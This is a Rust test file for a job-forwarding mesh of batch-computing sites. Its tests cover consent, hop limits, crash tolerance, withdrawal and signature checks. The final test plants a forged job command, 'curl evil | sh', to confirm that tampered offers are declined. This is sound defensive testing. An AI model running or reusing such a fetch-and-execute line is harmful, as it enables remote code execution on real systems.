//! Jobs that members pass on to each other: to the best site that takes them, once, whoever is killed and whatever is
//! lost; and what their users are told.

use std::collections::{BTreeMap, BTreeSet};

use fairmesh_model::{AccountPath, ContentHash, Millis, Signed, cbor};
use fairmesh_site::{
    AdvertRules, End, Event, ForwardAnswer, ForwardCall, ForwardReply, ForwardRules, HandOffReply,
    JobRequest, Message, Occupancy, Offer, Reply, Settlement, Stage, Table, Take, Withdrawal,
    read_forward, read_forward_reply,
};

use crate::mesh::{CALM, Mesh, ROUGH};
use crate::random::with_seeds;
use crate::vo::{self, site_id};

pub(super) const MINUTE: Millis = Millis::from_secs(60);
pub(super) const DAY: Millis = Millis::from_secs(86_400);

pub(super) fn rules(mesh: &Mesh) -> ForwardRules {
    ForwardRules {
        accept: BTreeSet::from([mesh.vo]),
        ..ForwardRules::default()
    }
}

pub(super) fn configure(mesh: &mut Mesh, node: usize, forward: Option<ForwardRules>) {
    let mut config = mesh.config(vo::timing());
    config.advert = Some(AdvertRules::default());
    config.forward = forward;
    mesh.nodes[node].config = config.clone();
    mesh.handle(node, Event::Reconfigured(Box::new(config)));
}

/// Says how many of a node's 1,000 CPUs are free.
pub(super) fn free(mesh: &mut Mesh, node: usize, cpus: u64) {
    let occupancy = Occupancy {
        free: Some(cpus),
        ..Occupancy::default()
    };
    let call = fairmesh_site::AdvertCall::Report(occupancy);
    mesh.handle(node, Event::Advert { ticket: 1, call });
}

/// Sites that take jobs, but for the first, whose users hand in theirs; the later, the less is used of them.
pub(super) fn found(seed: u64, sites: usize) -> Mesh {
    let mut mesh = Mesh::found(seed, sites);
    configure(&mut mesh, 0, Some(ForwardRules::default()));
    for node in 1..sites {
        let rules = rules(&mesh);
        configure(&mut mesh, node, Some(rules));
    }
    tell_all(&mut mesh);
    mesh.run(MINUTE);
    mesh
}

pub(super) fn tell_all(mesh: &mut Mesh) {
    for node in 0..mesh.nodes.len() {
        free(mesh, node, 100 * (node as u64 + 1));
    }
}

pub(super) fn errand(mesh: &Mesh, key: &str) -> JobRequest {
    JobRequest {
        vo: mesh.vo,
        key: key.to_owned(),
        user: "ann".to_owned(),
        path: AccountPath::parse("/u0").expect("valid"),
        cpus: 4,
        nodes: 0,
        gpus: 0,
        mem_mib: 0,
        disk_mib: 0,
        wall_s: 3_600,
        queue: None,
        properties: Vec::new(),
        requirements: Vec::new(),
        normalised: false,
        run: "sleep 1".to_owned(),
    }
}

/// `None` where the node is killed before it answers.
pub(super) fn call(mesh: &mut Mesh, node: usize, call: ForwardCall) -> Option<ForwardReply> {
    mesh.nodes[node].replies.clear();
    mesh.handle(node, Event::Forward { ticket: 1, call });
    match mesh.nodes[node].replies.pop()? {
        Reply::Forward(reply) => Some(*reply),
        other => panic!("{other:?}"),
    }
}

pub(super) fn hand_in(mesh: &mut Mesh, key: &str) -> ContentHash {
    let errand = Box::new(errand(mesh, key));
    match call(mesh, 0, ForwardCall::HandIn(errand, None)) {
        Some(Ok(ForwardAnswer::HandedIn(job))) => job,
        other => panic!("{other:?}"),
    }
}

pub(super) fn settle(mesh: &mut Mesh, node: usize, job: ContentHash, settlement: Settlement) {
    let answer = call(mesh, node, ForwardCall::Settle(job, settlement));
    assert_eq!(answer, Some(Ok(ForwardAnswer::Settled)));
}

pub(super) fn stage(mesh: &Mesh, node: usize, job: ContentHash) -> Option<Stage> {
    Some(mesh.nodes[node].site.forwarded_job(job)?.stage)
}

pub(super) fn here(mesh: &Mesh, node: usize) -> Vec<ContentHash> {
    let here = mesh.nodes[node].site.forwarded_here();
    here.map(|job| job.id).collect()
}

/// What the user of a job that was given up is told: why, and what came of it where.
pub(super) fn failed(mesh: &Mesh, job: ContentHash) -> (String, Vec<(usize, Option<String>)>) {
    let Some(Stage::Ended(End::Failed { why, tried })) = stage(mesh, 0, job) else {
        panic!("{:?}", stage(mesh, 0, job));
    };
    let index = |site: &str| {
        let mut nodes = 0..mesh.nodes.len();
        nodes.find(|node| site_id(*node).to_string() == site)
    };
    let tried = tried.into_iter();
    let tried = tried.map(|of| (index(&of.site).expect("a site of the mesh"), of.said));
    (why, tried.collect())
}

#[test]
fn a_job_goes_to_the_best_site_that_takes_it_and_its_user_learns_where_it_went() {
    with_seeds(|seed| {
        let mut mesh = found(seed, 3);
        let job = hand_in(&mut mesh, "j1");
        mesh.run(Millis::from_secs(1));
        assert_eq!(here(&mesh, 2), [job]);
        assert_eq!(stage(&mesh, 0, job), Some(Stage::Passed(site_id(2))));
        // Handed in again it is the same job, and another one under its key is refused.
        assert_eq!(hand_in(&mut mesh, "j1"), job);
        let other = JobRequest {
            cpus: 5,
            ..errand(&mesh, "j1")
        };
        let refused = call(&mut mesh, 0, ForwardCall::HandIn(Box::new(other), None));
        let why = refused.expect("an answer").expect_err("another job");
        assert!(why.contains("this key is another job's"), "{why}");

        let batch = "4711".to_owned();
        settle(&mut mesh, 2, job, Settlement::Submitted(batch.clone()));
        settle(
            &mut mesh,
            2,
            job,
            Settlement::Submitted("repeated".to_owned()),
        );
        mesh.run(MINUTE);
        let site = site_id(2);
        let end = Stage::Ended(End::Submitted { site, batch });
        assert_eq!(stage(&mesh, 0, job), Some(end.clone()));
        // Known after a start, and forgotten when nobody takes it any more.
        mesh.restart(0);
        assert_eq!(stage(&mesh, 0, job), Some(end));
        mesh.tick_ms = 600_000;
        mesh.run(DAY.times(2));
        mesh.run(MINUTE.times(20));
        for node in 0..3 {
            assert_eq!(mesh.nodes[node].count_rows(Table::Forwarded), 0);
        }
    });
}

#[test]
fn nothing_is_taken_without_consent_and_the_next_best_is_asked() {
    with_seeds(|seed| {
        let mut mesh = found(seed, 3);
        // It has just withdrawn its consent: nobody knows that yet.
        mesh.cut(2);
        configure(&mut mesh, 2, Some(ForwardRules::default()));
        mesh.heal();
        let job = hand_in(&mut mesh, "j1");
        mesh.run(Millis::from_secs(1));
        assert_eq!((here(&mesh, 1), here(&mesh, 2)), (vec![job], Vec::new()));
        // Who takes few jobs of one member gets no more, and whoever hands in more is told why.
        let few = |mesh: &Mesh| ForwardRules {
            per_minute: 2,
            cpus_max: Some(4),
            ..rules(mesh)
        };
        let few = few(&mesh);
        configure(&mut mesh, 1, Some(few));
        let second = hand_in(&mut mesh, "j2");
        mesh.run(Millis::from_secs(1));
        let third = hand_in(&mut mesh, "j3");
        mesh.run(MINUTE);
        assert_eq!(
            here(&mesh, 1),
            BTreeSet::from([job, second])
                .into_iter()
                .collect::<Vec<_>>()
        );
        let (why, tried) = failed(&mesh, third);
        assert_eq!(
            why,
            "no requirement of the job is met anywhere that takes it"
        );
        let said = tried
            .last()
            .and_then(|(site, said)| Some((*site, said.clone()?)));
        let (site, said) = said.expect("somebody declined it");
        assert_eq!(
            (site, said.as_str()),
            (1, "it takes 2 jobs a minute of one sender")
        );
        let large = JobRequest {
            cpus: 5,
            ..errand(&mesh, "j4")
        };
        call(&mut mesh, 0, ForwardCall::HandIn(Box::new(large), None));
        mesh.run(MINUTE);
        assert_eq!(here(&mesh, 1).len(), 2);
        // And a site without the table hands in none.
        let errand = errand(&mesh, "j5");
        configure(&mut mesh, 0, None);
        let refused = call(&mut mesh, 0, ForwardCall::HandIn(Box::new(errand), None));
        let why = refused.expect("an answer").expect_err("no table");
        assert!(why.contains("[forward]"), "{why}");
    });
}

#[test]
fn members_that_claim_to_be_free_and_refuse_cost_a_job_its_hops_at_most() {
    with_seeds(|seed| {
        let mut mesh = found(seed, 7);
        let job = hand_in(&mut mesh, "j1");
        let mut refusals = Vec::new();
        for _ in 0..20 {
            tell_all(&mut mesh);
            mesh.run(MINUTE);
            let holders = (1..7).filter(|node| !here(&mesh, *node).is_empty());
            let holders: Vec<usize> = holders.collect();
            assert!(holders.len() <= 1, "{holders:?}");
            for node in holders {
                refusals.push(node);
                settle(
                    &mut mesh,
                    node,
                    job,
                    Settlement::Refused("I lied".to_owned()),
                );
            }
        }
        // Four hops: the fourth may not send it on.
        assert_eq!(refusals, [6, 5, 4, 3]);
        let (why, tried) = failed(&mesh, job);
        assert_eq!(why, "the job has been forwarded as often as it may be");
        let lied = || Some("I lied".to_owned());
        let expected = [(0, None), (6, lied()), (6, None), (5, lied()), (5, None)];
        assert_eq!(tried[..5], expected);
        assert_eq!(tried.last(), Some(&(3, lied())));
    });
}

/// What batch systems have, by job: where, and under which name.
type Batch = BTreeMap<ContentHash, BTreeSet<(usize, u8)>>;

/// Hands what is at a node to its batch system, as `forward run` does: by name, noted afterwards. What users take back
/// is not submitted any more, and of what is every second one can be withdrawn.
fn hand_over(mesh: &mut Mesh, node: usize, batch: &mut Batch) {
    if !mesh.nodes[node].up {
        return;
    }
    let withdrawn: Vec<_> = mesh.nodes[node].site.to_withdraw().collect();
    for job in withdrawn {
        let is_withdrawn = job.id.as_bytes()[0].is_multiple_of(2);
        if let Some(has) = batch.get_mut(&job.id).filter(|_| is_withdrawn) {
            has.remove(&(node, job.visit));
        }
        call(mesh, node, ForwardCall::Withdrew(job.id, is_withdrawn));
    }
    let jobs: Vec<_> = mesh.nodes[node].site.forwarded_here().collect();
    for job in jobs {
        let was_submitted = batch
            .get(&job.id)
            .is_some_and(|has| has.contains(&(node, job.visit)));
        if job.is_withdrawn && !was_submitted {
            let settlement = Settlement::Refused("its user has taken it back".to_owned());
            call(mesh, node, ForwardCall::Settle(job.id, settlement));
            continue;
        }
        batch.entry(job.id).or_default().insert((node, job.visit));
        let settlement = Settlement::Submitted(format!("{node}.{}", job.visit));
        call(mesh, node, ForwardCall::Settle(job.id, settlement));
    }
}

#[test]
fn a_job_runs_once_whoever_is_killed_at_any_step_and_whatever_is_lost() {
    with_seeds(|seed| {
        let (ran, _) = play(seed, 0);
        assert!(ran >= 30, "most found a place: {ran}");
    });
}

#[test]
fn a_job_that_is_taken_back_runs_nowhere_or_its_user_is_told_where_it_stays() {
    with_seeds(|seed| {
        let (ran, taken_back) = play(seed, 70);
        assert!(
            ran >= 10 && taken_back >= 5,
            "{ran} ran, {taken_back} were taken back"
        );
    });
}

/// Forty jobs, of which users take so many of a hundred back, while nodes are killed between any two steps; how many ran,
/// and how many were taken back.
fn play(seed: u64, taken_back: u64) -> (usize, usize) {
    let mut mesh = found(seed, 4);
    let mut batch = Batch::new();
    let mut jobs = Vec::new();
    let mut wanted_back = BTreeSet::new();
    for round in 0..40 {
        mesh.faults = ROUGH;
        tell_all(&mut mesh);
        let errand = Box::new(errand(&mesh, &format!("j{round}")));
        let crash = |mesh: &mut Mesh, of: u64| {
            let after = usize::try_from(mesh.dice.below(of)).expect("small");
            Some(after)
        };
        // Somebody is killed between two of the next steps.
        let victim = usize::try_from(mesh.dice.below(4)).expect("small");
        let after = crash(&mut mesh, 12);
        mesh.nodes[victim].crash_after = after;
        let answered = call(&mut mesh, 0, ForwardCall::HandIn(errand.clone(), None));
        mesh.run(Millis::from_secs(20));
        for node in 1..4 {
            // Some submit late.
            if mesh.dice.percent(50) {
                hand_over(&mut mesh, node, &mut batch);
            }
        }
        mesh.run(Millis::from_secs(20));
        for node in 0..4 {
            mesh.nodes[node].crash_after = None;
            if !mesh.nodes[node].up {
                mesh.restart(node);
            }
        }
        // Whoever was not answered repeats himself.
        let again = call(&mut mesh, 0, ForwardCall::HandIn(errand, None));
        let Some(Ok(ForwardAnswer::HandedIn(job))) = again else {
            panic!("{again:?}");
        };
        if let Some(answered) = answered {
            assert_eq!(answered, Ok(ForwardAnswer::HandedIn(job)));
        }
        jobs.push(job);
        // Now or later, and one of those before.
        let old = usize::try_from(mesh.dice.below(jobs.len() as u64)).expect("small");
        if mesh.dice.percent(taken_back) {
            let job = jobs[old.max(jobs.len().saturating_sub(3))];
            if call(&mut mesh, 0, ForwardCall::Withdraw(job)) == Some(Ok(ForwardAnswer::Settled)) {
                wanted_back.insert(job);
            }
        }
    }
    mesh.faults = CALM;
    for _ in 0..20 {
        tell_all(&mut mesh);
        mesh.run(MINUTE);
        (1..4).for_each(|node| hand_over(&mut mesh, node, &mut batch));
    }
    mesh.run(MINUTE);
    let mut were_taken_back = 0;
    for job in jobs {
        let ran = batch.get(&job).map_or(0, BTreeSet::len);
        let told = match stage(&mesh, 0, job) {
            Some(Stage::Ended(End::Submitted { .. })) => 1,
            Some(Stage::Ended(End::Failed { .. })) => 0,
            other => panic!("{other:?}"),
        };
        assert_eq!(ran, told, "{:?}", stage(&mesh, 0, job));
        let known = mesh.nodes[0]
            .site
            .forwarded_job(job)
            .expect("it was handed in");
        if wanted_back.contains(&job) {
            let is_known = known.withdrawal != Withdrawal::Wanted || told == 0;
            assert!(is_known, "{known:?}");
        }
        let is_taken_back = matches!(&known.stage, Stage::Ended(End::Failed { why, .. })
                if why == "its user has taken it back");
        were_taken_back += usize::from(is_taken_back);
    }
    let ran = batch.values().map(BTreeSet::len).sum::<usize>();
    (ran, were_taken_back)
}

#[test]
fn a_job_whose_receiver_falls_silent_is_given_up_as_in_doubt_and_goes_nowhere_else() {
    with_seeds(|seed| {
        let mut mesh = found(seed, 3);
        mesh.faults.lost_percent = 100;
        let job = hand_in(&mut mesh, "j1");
        mesh.run(Millis::from_secs(1));
        mesh.stop(2);
        mesh.faults = CALM;
        mesh.tick_ms = 600_000;
        mesh.run(Millis::from_secs(3_600));
        assert_eq!(stage(&mesh, 0, job), Some(Stage::Sent(site_id(2))));
        mesh.run(DAY);
        let (why, tried) = failed(&mesh, job);
        assert_eq!(
            why,
            "the site that it was sent to never answered, and may run it"
        );
        assert_eq!(tried, [(2, Some("it has not answered".to_owned()))]);
        assert_eq!(here(&mesh, 1), []);
        // When it is back nobody sends it anything of that any more.
        mesh.restart(2);
        mesh.run(MINUTE);
        assert_eq!(here(&mesh, 2), []);
    });
}

#[test]
fn a_site_that_has_lost_a_job_says_so_to_who_asks() {
    with_seeds(|seed| {
        let mut mesh = found(seed, 3);
        let job = hand_in(&mut mesh, "j1");
        mesh.run(Millis::from_secs(1));
        assert_eq!(here(&mesh, 2), [job]);
        let mut older = mesh.nodes[2].rows.clone();
        older.retain(|(table, _), _| *table != Table::Forwarded);
        mesh.restart_on(2, older);
        mesh.run(MINUTE);
        let (why, _) = failed(&mesh, job);
        assert_eq!(
            why,
            "the site that took it does not know it any more, and may run it"
        );
    });
}

/// Sends a message about jobs in a member's name.
pub(super) fn say(
    mesh: &mut Mesh,
    from: usize,
    to: usize,
    message: &Message,
) -> Option<HandOffReply> {
    let bytes = [&[4], &cbor::to_vec(message)[..]].concat();
    let (from, channel) = (site_id(from), 999);
    mesh.nodes[to].sent.clear();
    mesh.handle(
        to,
        Event::Requested {
            from,
            bytes,
            channel,
        },
    );
    let mut sent = mesh.nodes[to].sent.iter();
    sent.find_map(|bytes| read_forward_reply(bytes))
}

/// What a node has sent last of a job that is on its way.
pub(super) fn taken_from(mesh: &Mesh, node: usize) -> Take {
    let frames = mesh.nodes[node].sent.iter();
    let mut takes = frames.filter_map(|bytes| match read_forward(bytes)? {
        Message::Take(take) => Some(take),
        Message::Ends(_) | Message::Withdraw(_) => None,
    });
    takes.next_back().expect("it is on its way")
}

#[test]
fn whoever_was_offered_a_job_before_can_neither_erase_it_nor_take_it_back() {
    with_seeds(|seed| {
        let mut mesh = found(seed, 4);
        mesh.nodes[0].sent.clear();
        let job = hand_in(&mut mesh, "j1");
        let take = taken_from(&mesh, 0);
        mesh.run(Millis::from_secs(1));
        assert_eq!(here(&mesh, 3), [job]);
        // B has seen the offer, and sends it with any number of hops to all who know the job, and to C, who does not.
        for to in [0, 2, 3] {
            for ttl in [0, 4, 17] {
                let said = Message::Take(Take {
                    ttl,
                    ..take.clone()
                });
                if to != 2 || ttl != 4 {
                    say(&mut mesh, 1, to, &said);
                }
            }
            let back = Message::Withdraw(vec![job]);
            say(&mut mesh, 1, to, &back);
        }
        let passed = Some(Stage::Passed(site_id(3)));
        assert_eq!((here(&mesh, 3), stage(&mesh, 0, job)), (vec![job], passed));
        for node in [0, 3] {
            let known = mesh.nodes[node].site.forwarded_job(job);
            let known = known.expect("it is known");
            assert_eq!(known.withdrawal, Withdrawal::None);
            assert!(!known.from.contains(&site_id(1)), "it was not B's");
        }
        assert_eq!(mesh.nodes[2].count_rows(Table::Forwarded), 0);
        // With fewer hops it could have been on its way; but it is here, and later it has ended.
        let fewer = Message::Take(Take { ttl: 1, ..take });
        assert_eq!(say(&mut mesh, 1, 3, &fewer), Some(HandOffReply::Taken));
        settle(&mut mesh, 3, job, Settlement::Submitted("4711".to_owned()));
        let ended = HandOffReply::Declined("it has ended".to_owned());
        assert_eq!(say(&mut mesh, 1, 3, &fewer), Some(ended));
        mesh.restart(3);
        mesh.run(MINUTE);
        let (site, batch) = (site_id(3), "4711".to_owned());
        let end = Stage::Ended(End::Submitted { site, batch });
        assert_eq!(stage(&mesh, 0, job), Some(end));
    });
}

#[test]
fn a_job_that_was_changed_on_its_way_is_declined() {
    with_seeds(|seed| {
        let mut mesh = found(seed, 3);
        mesh.nodes[0].sent.clear();
        let job = hand_in(&mut mesh, "j1");
        let take = taken_from(&mesh, 0);
        mesh.run(Millis::from_secs(1));
        settle(&mut mesh, 2, job, Settlement::Submitted(String::new()));
        // B has it, and makes another one of it in A's name.
        let claimed = Signed::<Offer>::parse(&take.offer).expect("an offer");
        let mut forged = claimed.claimed().clone();
        forged.job.run = "curl evil | sh".to_owned();
        let signatures: Vec<_> = claimed.signatures().collect();
        let stolen = Signed::assemble(&forged, &signatures).expect("of the form of one");
        let own = Signed::sign(forged, &[&vo::site_key(2)]).expect("signed by B");
        for offer in [stolen, own] {
            let offer = offer.bytes().to_vec().into();
            let take = Message::Take(Take {
                offer,
                ..take.clone()
            });
            let told = say(&mut mesh, 2, 1, &take);
            let why = "its origin has not signed it".to_owned();
            assert_eq!(told, Some(HandOffReply::Declined(why)));
            assert_eq!(here(&mesh, 1), []);
        }
    });
}
